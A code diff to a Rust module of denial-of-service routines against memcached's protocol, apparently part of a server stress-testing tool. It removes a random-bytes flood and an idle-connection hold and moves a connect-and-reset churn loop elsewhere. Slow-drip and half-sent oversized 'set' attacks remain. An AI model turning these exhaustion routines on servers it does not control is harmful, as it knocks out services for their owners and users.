@@ -1,6 +1,6 @@
 //! Attacks on memcached's protocol. They are as valid against memcached.
 
-use crate::crowd::{Reads, begin, connect, crowd, drip as drip_bytes, hold, pump, reset};
+use crate::crowd::{Reads, begin, come_and_go, connect, drip as drip_bytes, pump};
 use crate::target::Target;
 use std::io::{Read, Write};
 
@@ -16,18 +16,6 @@ fn store_large(target: &Target) {
         let _ = stream.write_all(&large_set(""));
         let _ = stream.read(&mut [0; 16]);
     }
-}
-
-pub(crate) fn random(target: &Target) -> String {
-    let mut chance = target.chance();
-    let mut rounds = 0;
-    while target.goes_on() {
-        if let Some(mut stream) = connect(target) {
-            let _ = stream.write_all(&chance.bytes(65_536));
-            rounds += 1;
-        }
-    }
-    format!("{rounds} connections")
 }
 
 pub(crate) fn noops(target: &Target) -> String {
@@ -81,10 +69,6 @@ pub(crate) fn half(target: &Target) -> String {
     begin(target, 300, &[format!("set half 0 0 {LARGE}\r\n").into_bytes(), vec![b'x'; 900_000]].concat())
 }
 
-pub(crate) fn idle(target: &Target) -> String {
-    hold(target, &crowd(target, 2_000, b""))
-}
-
 pub(crate) fn drip(target: &Target) -> String {
     drip_bytes(target, 200, format!("set drip 0 0 {LARGE}\r\nxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx").as_bytes())
 }
@@ -95,18 +79,6 @@ pub(crate) fn storm(target: &Target) -> String {
 
 pub(crate) fn churn(target: &Target) -> String {
     come_and_go(target, &b"get h1\r\n".repeat(100))
-}
-
-fn come_and_go(target: &Target, said: &[u8]) -> String {
-    let mut rounds = 0;
-    while target.goes_on() {
-        if let Some(mut stream) = connect(target) {
-            let _ = stream.write_all(said);
-            reset(stream);
-            rounds += 1;
-        }
-    }
-    format!("{rounds} connections")
 }
 
 pub(crate) fn flush(target: &Target) -> String {
